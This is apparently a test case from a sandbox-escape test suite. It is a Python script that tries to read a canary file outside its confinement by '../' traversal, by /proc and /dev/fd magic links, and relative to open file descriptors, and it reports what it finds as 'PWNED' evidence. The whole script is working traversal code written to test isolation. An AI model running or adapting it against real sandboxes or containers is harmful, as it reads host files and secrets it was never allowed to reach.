# attack: dots_and_doors
# kind: leak   task: any   naive: run
# attempts: reach a host file by .., by magic links and relative to every descriptor
import os

def evidence(found="yes"):
    said = f"PWNED dots_and_doors {found}"[:200].encode("utf-8", "replace") + b"\n"
    try:
        os.write(1, said)
        os.write(os.open("/tmp/sbx_evidence/dots_and_doors", os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o666), said)
    except OSError:
        pass

goal = "tmp/sbx_canary/secret.txt"
doors = ["", "/proc/self/root/", "/proc/self/cwd/", "/proc/1/root/", "/proc/thread-self/root/", "/dev/fd/", "/dev/shm/", "/usr/lib/"]
paths = [door + "../" * up + goal for door in doors for up in range(12)]
for place in [None, *range(64)]:
    for path in paths if place is None else ["../" * up + goal for up in range(8)]:
        try:
            fd = os.open(path, os.O_RDONLY) if place is None else os.open(path, os.O_RDONLY, dir_fd=place)
            evidence(os.read(fd, 100))
        except OSError:
            pass
